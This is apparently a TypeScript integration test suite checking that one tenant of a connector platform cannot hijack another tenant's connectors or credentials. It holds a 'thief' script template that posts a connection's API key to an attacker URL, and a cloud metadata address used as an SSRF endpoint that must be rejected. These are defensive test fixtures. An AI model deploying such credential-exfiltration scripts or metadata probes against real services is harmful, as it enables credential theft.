import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { Code, ConnectError, createClient } from "@connectrpc/connect";
import { createConnectTransport } from "@connectrpc/connect-node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CatalogService } from "../../gen/patchbay/v1/catalog_pb.ts";
import { ConnectionService } from "../../gen/patchbay/v1/connection_pb.ts";
import { ExecuteService } from "../../gen/patchbay/v1/execute_pb.ts";
import { startTestServer, type TestServer } from "../support/test-server.ts";

// The attack this suite replays: tenant B holds a valid key with catalog:write and tries to take tenant
// A's credentials through the catalog (replace the script A's connections run, re-point it, switch on
// payload recording, delete it). Every step must fail, and A's next Execute must still reach A's API
// only. PostgreSQL only: the production engine (the embedded engine runs the same catalog code).

const A_KEY_VALUE = "tenant-a-api-key-7f3c9e1d";

/** A loopback HTTP server that records every request it gets. */
async function startRecorder(): Promise<{ url: string; seen: IncomingMessage[]; close(): Promise<void> }> {
  const seen: IncomingMessage[] = [];
  const server: Server = createServer((req, res) => {
    seen.push(req);
    req.resume();
    req.on("end", () => res.setHeader("content-type", "application/json").end('{"ok":true}'));
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    close: () => new Promise<void>((closed) => server.close(() => closed())),
  };
}

const SCHEMA = {
  connectionConfig: {
    baseUrl: { type: "string", required: true },
    apiKey: { type: "string", required: true, secret: true },
  },
  commands: { ping: { params: [], description: "Calls the API", outputs: ["status"] } },
};
const HONEST = `function ping() {
  var r = patchbay.http.get(patchbay.config.baseUrl + "/ping", { Authorization: "Bearer " + patchbay.config.apiKey });
  return { success: true, payload: { status: r.status } };
}`;
const thief = (url: string) => `function ping() {
  patchbay.http.post(${JSON.stringify(url)} + "/steal", { key: patchbay.config.apiKey });
  return { success: true, payload: { status: 200 } };
}`;

function codeOf(error: unknown): Code | undefined {
  return error instanceof ConnectError ? error.code : undefined;
}

/** The code a call is refused with (undefined when it succeeds); calls are started here, one at a time. */
async function refusal(call: () => Promise<unknown>): Promise<Code | undefined> {
  try {
    await call();
    return undefined;
  } catch (error) {
    return codeOf(error);
  }
}

describe("one tenant cannot reach another tenant's connectors", () => {
  let t: TestServer;
  let apiA: Awaited<ReturnType<typeof startRecorder>>;
  let attacker: Awaited<ReturnType<typeof startRecorder>>;
  let keyA = "";
  let keyB = "";
  let adminB = "";
  let connectionA = "";
  const transport = () => createConnectTransport({ baseUrl: t.url, httpVersion: "1.1" });
  const as = (key: string) => ({ headers: { authorization: `Bearer ${key}` } });
  const catalog = () => createClient(CatalogService, transport());
  const connections = () => createClient(ConnectionService, transport());
  const execute = () => createClient(ExecuteService, transport());

  beforeAll(async () => {
    apiA = await startRecorder();
    attacker = await startRecorder();
    t = await startTestServer("postgresql");
    const scopes = ["catalog:read", "catalog:write", "connections", "execute"];
    keyA = await t.createKey(scopes, "alice", "tenant-a");
    keyB = await t.createKey(scopes, "mallory", "tenant-b");
    adminB = await t.createKey(["admin"], "mallory-admin", "tenant-b");
    await catalog().createConnector(
      { name: "crm", executionModel: "script", configSchema: SCHEMA, scriptSource: HONEST },
      as(keyA),
    );
    const started = await connections().startConnection({ connectorSlug: "crm" }, as(keyA));
    connectionA = started.connection?.id ?? "";
    await connections().submitCredentials(
      { id: connectionA, credentials: { baseUrl: apiA.url, apiKey: A_KEY_VALUE } },
      as(keyA),
    );
  });
  afterAll(async () => {
    await t?.stop();
    await apiA?.close();
    await attacker?.close();
  });

  it("hides tenant A's connector from tenant B in every read", async () => {
    const listedB = await catalog().listConnectors({ pageSize: 200 }, as(keyB));
    expect(listedB.connectors.map((c) => c.slug)).not.toContain("crm");
    const listedA = await catalog().listConnectors({ q: "crm" }, as(keyA));
    expect(listedA.connectors.map((c) => c.slug)).toEqual(["crm"]);
    expect(await refusal(() => catalog().getConnector({ slug: "crm" }, as(keyB)))).toBe(Code.NotFound);
    expect(await refusal(() => catalog().getCapabilities({ slug: "crm" }, as(keyB)))).toBe(Code.NotFound);
    // Not even an admin key of another tenant sees an unpublished connector.
    expect(await refusal(() => catalog().getConnector({ slug: "crm" }, as(adminB)))).toBe(Code.NotFound);
    expect(await refusal(() => connections().startConnection({ connectorSlug: "crm" }, as(keyB)))).toBe(
      Code.InvalidArgument,
    );
    expect(
      await refusal(() =>
        execute().execute({ target: { case: "connectorSlug", value: "crm" }, command: "ping" }, as(keyB)),
      ),
    ).toBe(Code.NotFound);
  });

  it("pages each tenant's view of the catalog in the database, every visible row once", async () => {
    for (const name of ["zz-one", "zz-two", "zz-three"]) {
      await catalog().createConnector(
        {
          name,
          executionModel: "script",
          configSchema: SCHEMA,
          scriptSource: HONEST,
          tags: [`tag-${name}`, "pager"],
        },
        as(keyB),
      );
    }
    const whole = await catalog().listConnectors({ pageSize: 200 }, as(keyB));
    const paged: string[] = [];
    let pageToken = "";
    do {
      const page = await catalog().listConnectors({ pageSize: 1, pageToken }, as(keyB));
      expect(page.connectors.length).toBeLessThanOrEqual(1);
      paged.push(...page.connectors.map((c) => c.slug));
      pageToken = page.nextPageToken;
    } while (pageToken !== "");
    expect(paged).toEqual(whole.connectors.map((c) => c.slug));
    expect(paged).toEqual([...new Set(paged)]);
    expect(paged).toContain("zz-two");
    expect(paged).not.toContain("crm");
    // q matches tags too; tenant A does not see tenant B's tagged rows.
    const tagged = await catalog().listConnectors({ q: "tag-zz-t" }, as(keyB));
    expect(tagged.connectors.map((c) => c.slug).sort()).toEqual(["zz-three", "zz-two"]);
    expect((await catalog().listConnectors({ q: "pager" }, as(keyA))).connectors).toHaveLength(0);
    // Availability filters in the database too: script connectors are available.
    const available = await catalog().listConnectors({ availability: "available", q: "zz-" }, as(keyB));
    expect(available.connectors).toHaveLength(3);
    expect(
      (await catalog().listConnectors({ availability: "not_configured", q: "zz-" }, as(keyB))).connectors,
    ).toHaveLength(0);
  });

  it("refuses every write of tenant B to tenant A's connector, as if it did not exist", async () => {
    const writes = [
      () =>
        catalog().updateConnector(
          { slug: "crm", scriptSource: thief(attacker.url), autoBump: true },
          as(keyB),
        ),
      () => catalog().updateConnector({ slug: "crm", recordPayloads: true }, as(keyB)),
      () => catalog().updateConnector({ slug: "crm", description: "mine now" }, as(keyB)),
      () =>
        catalog().updateConnector(
          { slug: "crm", scriptSource: thief(attacker.url), autoBump: true },
          as(adminB),
        ),
      () => catalog().deleteConnector({ slug: "crm" }, as(keyB)),
      () => catalog().deleteConnector({ slug: "crm" }, as(adminB)),
    ];
    for (const write of writes) expect(await refusal(write)).toBe(Code.NotFound);
    const a = await catalog().getConnector({ slug: "crm" }, as(keyA));
    expect(a.connector).toMatchObject({
      slug: "crm",
      recordPayloads: false,
      description: "",
      version: "1.0.0",
    });
  });

  it("lets tenant B use the same slug for its own connector without touching tenant A's executions", async () => {
    await catalog().createConnector(
      { name: "crm", executionModel: "script", configSchema: SCHEMA, scriptSource: thief(attacker.url) },
      as(keyB),
    );
    const before = apiA.seen.length;
    const ran = await execute().execute(
      { target: { case: "connectionId", value: connectionA }, command: "ping" },
      as(keyA),
    );
    expect(ran.payload).toEqual({ status: 200 });
    expect(apiA.seen.length).toBe(before + 1);
    expect(apiA.seen.at(-1)?.headers.authorization).toBe(`Bearer ${A_KEY_VALUE}`);
    expect(attacker.seen).toHaveLength(0);
    // Each tenant reads its own row under the shared slug.
    const seenByB = await catalog().getConnector({ slug: "crm" }, as(keyB));
    const seenByA = await catalog().getConnector({ slug: "crm" }, as(keyA));
    expect(seenByA.connector?.createTime).not.toEqual(seenByB.connector?.createTime);
  });

  it("keeps tenant A's connection from being executed or read by tenant B", async () => {
    expect(
      await refusal(() =>
        execute().execute(
          { target: { case: "connectionId", value: connectionA }, command: "ping" },
          as(keyB),
        ),
      ),
    ).toBe(Code.NotFound);
    expect(await refusal(() => connections().getConnection({ id: connectionA }, as(keyB)))).toBe(
      Code.NotFound,
    );
    expect(attacker.seen).toHaveLength(0);
  });

  it("keeps built-in and seeded connectors read-only to tenant keys", async () => {
    for (const slug of ["http", "sample-script"]) {
      expect(
        await refusal(() => catalog().updateConnector({ slug, description: "x", autoBump: true }, as(keyB))),
      ).toBe(Code.FailedPrecondition);
      expect(await refusal(() => catalog().deleteConnector({ slug }, as(keyB)))).toBe(
        Code.FailedPrecondition,
      );
    }
    const listed = await catalog().listConnectors({ q: "sample-script" }, as(keyB));
    expect(listed.connectors[0]).toMatchObject({ slug: "sample-script", builtIn: true, published: false });
  });

  it("lets only the operator's admin keys publish, and then only they change the published connector", async () => {
    // The operator's tenant (the bootstrap tenant, `default`) publishes: a published connector is in
    // every tenant's catalog and runs with every tenant's credentials.
    const keyOp = await t.createKey(["catalog:read", "catalog:write"], "operator-dev", "default");
    const adminOp = await t.createKey(["admin"], "operator-admin", "default");
    await catalog().createConnector(
      { name: "shared-crm", executionModel: "script", configSchema: SCHEMA, scriptSource: HONEST },
      as(keyOp),
    );
    // Publishing is an admin decision, even for the owner.
    expect(
      await refusal(() => catalog().updateConnector({ slug: "shared-crm", published: true }, as(keyOp))),
    ).toBe(Code.PermissionDenied);
    expect(
      await refusal(() =>
        catalog().createConnector(
          {
            name: "pub-direct",
            executionModel: "script",
            configSchema: SCHEMA,
            scriptSource: HONEST,
            published: true,
          },
          as(keyOp),
        ),
      ),
    ).toBe(Code.PermissionDenied);
    // Another tenant's admin key may not publish, not even its own connector: it would put a slug of its
    // choosing in every tenant's catalog, run with their credentials.
    const adminA = await t.createKey(["admin"], "alice-admin", "tenant-a");
    const squat = await catalog()
      .updateConnector({ slug: "crm", published: true }, as(adminA))
      .then(
        () => undefined,
        (error: unknown) => ConnectError.from(error),
      );
    expect(squat?.code).toBe(Code.PermissionDenied);
    expect(squat?.rawMessage).toBe(
      "only an admin key of the operator's tenant (default) may publish a connector: it is in every tenant's catalog",
    );
    expect(
      await refusal(() =>
        catalog().createConnector(
          {
            name: "squatted",
            executionModel: "script",
            configSchema: SCHEMA,
            scriptSource: HONEST,
            published: true,
          },
          as(adminA),
        ),
      ),
    ).toBe(Code.PermissionDenied);
    expect(await refusal(() => catalog().getConnector({ slug: "squatted" }, as(keyB)))).toBe(Code.NotFound);

    const published = await catalog().updateConnector({ slug: "shared-crm", published: true }, as(adminOp));
    expect(published.connector?.published).toBe(true);

    // Tenant B sees it now, and can neither change nor delete it with catalog:write.
    const seen = await catalog().getConnector({ slug: "shared-crm" }, as(keyB));
    expect(seen.connector?.published).toBe(true);
    for (const write of [
      () =>
        catalog().updateConnector(
          { slug: "shared-crm", scriptSource: thief(attacker.url), autoBump: true },
          as(keyB),
        ),
      () => catalog().updateConnector({ slug: "shared-crm", recordPayloads: true }, as(keyB)),
      () => catalog().deleteConnector({ slug: "shared-crm" }, as(keyB)),
      // Nor can its owner without an admin key: every tenant relies on it now.
      () =>
        catalog().updateConnector(
          { slug: "shared-crm", scriptSource: thief(attacker.url), autoBump: true },
          as(keyOp),
        ),
      () => catalog().updateConnector({ slug: "shared-crm", published: false }, as(keyOp)),
    ]) {
      expect(await refusal(write)).toBe(Code.PermissionDenied);
    }
    // Not even another tenant's admin key: the connector runs with every tenant's credentials.
    for (const write of [
      () =>
        catalog().updateConnector(
          { slug: "shared-crm", scriptSource: thief(attacker.url), autoBump: true },
          as(adminB),
        ),
      () => catalog().updateConnector({ slug: "shared-crm", description: "mine" }, as(adminB)),
      () => catalog().updateConnector({ slug: "shared-crm", published: false }, as(adminB)),
      () => catalog().deleteConnector({ slug: "shared-crm" }, as(adminB)),
    ]) {
      expect(await refusal(write)).toBe(Code.PermissionDenied);
    }
    // The owner tenant's admin key may.
    const changed = await catalog().updateConnector(
      { slug: "shared-crm", description: "reviewed" },
      as(adminOp),
    );
    expect(changed.connector?.description).toBe("reviewed");
    // A slug another tenant already uses cannot be published: it would name two connectors.
    await catalog().createConnector(
      { name: "crm", executionModel: "script", configSchema: SCHEMA, scriptSource: HONEST },
      as(keyOp),
    );
    expect(
      await refusal(() => catalog().updateConnector({ slug: "crm", published: true }, as(adminOp))),
    ).toBe(Code.FailedPrecondition);
    // A published slug cannot be taken by another tenant's new connector.
    expect(
      await refusal(() =>
        catalog().createConnector(
          { name: "shared-crm", executionModel: "script", configSchema: SCHEMA, scriptSource: HONEST },
          as(keyB),
        ),
      ),
    ).toBe(Code.AlreadyExists);
  });

  it("refuses to withdraw a published connector while another tenant's live connections use it", async () => {
    const adminOp = await t.createKey(["admin"], "operator-admin-2", "default");
    const started = await connections().startConnection({ connectorSlug: "shared-crm" }, as(keyB));
    const id = started.connection?.id ?? "";
    expect(
      await refusal(() => catalog().updateConnector({ slug: "shared-crm", published: false }, as(adminOp))),
    ).toBe(Code.FailedPrecondition);
    await connections().deleteConnection({ id }, as(keyB));
    const withdrawn = await catalog().updateConnector({ slug: "shared-crm", published: false }, as(adminOp));
    expect(withdrawn.connector?.published).toBe(false);
    expect(await refusal(() => catalog().getConnector({ slug: "shared-crm" }, as(keyB)))).toBe(Code.NotFound);
  });

  it("needs an admin key to change what runs with another user's credentials, within a tenant too", async () => {
    // Bob, another user of tenant A with catalog:write, connects to Alice's connector...
    const bob = await t.createKey(
      ["catalog:read", "catalog:write", "connections", "execute"],
      "bob",
      "tenant-a",
    );
    await catalog().createConnector(
      { name: "team-crm", executionModel: "script", configSchema: SCHEMA, scriptSource: HONEST },
      as(keyA),
    );
    const started = await connections().startConnection({ connectorSlug: "team-crm" }, as(bob));
    const bobsConnection = started.connection?.id ?? "";
    // ...so Alice (catalog:write, not admin) can no longer swap the code or turn on recording.
    for (const write of [
      () =>
        catalog().updateConnector(
          { slug: "team-crm", scriptSource: thief(attacker.url), autoBump: true },
          as(keyA),
        ),
      () => catalog().updateConnector({ slug: "team-crm", recordPayloads: true }, as(keyA)),
    ]) {
      expect(await refusal(write)).toBe(Code.PermissionDenied);
    }
    // Display fields stay hers, and an admin key of the tenant may change the code.
    const described = await catalog().updateConnector({ slug: "team-crm", description: "crm" }, as(keyA));
    expect(described.connector?.description).toBe("crm");
    const adminA = await t.createKey(["admin"], "alice-admin-3", "tenant-a");
    await catalog().updateConnector({ slug: "team-crm", scriptSource: HONEST, autoBump: true }, as(adminA));
    // With only her own connection left, Alice may again.
    await connections().deleteConnection({ id: bobsConnection }, as(bob));
    await connections().startConnection({ connectorSlug: "team-crm" }, as(keyA));
    const own = await catalog().updateConnector({ slug: "team-crm", recordPayloads: true }, as(keyA));
    expect(own.connector?.recordPayloads).toBe(true);
    expect(attacker.seen).toHaveLength(0);
  });

  it("refuses DeleteConnector while live connections use the connector", async () => {
    expect(await refusal(() => catalog().deleteConnector({ slug: "crm" }, as(keyA)))).toBe(
      Code.FailedPrecondition,
    );
    const stillThere = await catalog().getConnector({ slug: "crm" }, as(keyA));
    expect(stillThere.connector?.slug).toBe("crm");
    // Tenant B's own connector of the same slug has no connections: it goes.
    await catalog().deleteConnector({ slug: "crm" }, as(keyB));
    expect((await catalog().getConnector({ slug: "crm" }, as(keyA))).connector?.slug).toBe("crm");
  });

  it("checks a new endpoint_url on UpdateConnector exactly as on CreateConnector", async () => {
    // An external connector needs a healthy endpoint to be registered: a tiny protocol 2.0 server.
    const external = createServer((req, res) => {
      res.setHeader("content-type", "application/json");
      if (req.url === "/health") res.end('{"status":"ok"}');
      else if (req.url === "/schema")
        res.end(
          JSON.stringify({ name: "ext", version: "1.0.0", authType: "none", commands: SCHEMA.commands }),
        );
      else res.writeHead(404).end("{}");
    });
    await new Promise<void>((listening) => external.listen(0, "127.0.0.1", listening));
    const url = `http://127.0.0.1:${(external.address() as AddressInfo).port}`;
    try {
      await catalog().createConnector(
        { name: "ext", executionModel: "external", endpointUrl: url },
        as(keyA),
      );
      for (const endpointUrl of ["ftp://example.test/x", "not a url", "http://169.254.169.254/latest"]) {
        expect(await refusal(() => catalog().updateConnector({ slug: "ext", endpointUrl }, as(keyA)))).toBe(
          Code.InvalidArgument,
        );
      }
      // A closed loopback port (allowed by the policy) fails the health check.
      expect(
        await refusal(() =>
          catalog().updateConnector({ slug: "ext", endpointUrl: "http://127.0.0.1:1" }, as(keyA)),
        ),
      ).toBe(Code.FailedPrecondition);
      expect(
        await refusal(() => catalog().updateConnector({ slug: "ext", protocol: "smtp" }, as(keyA))),
      ).toBe(Code.InvalidArgument);
      const kept = await catalog().getConnector({ slug: "ext" }, as(keyA));
      expect(kept.connector?.endpointUrl).toBe(url);
      const moved = await catalog().updateConnector({ slug: "ext", endpointUrl: `${url}/` }, as(keyA));
      expect(moved.connector?.endpointUrl).toBe(url);
    } finally {
      await new Promise<void>((closed) => external.close(() => closed()));
    }
  });
});
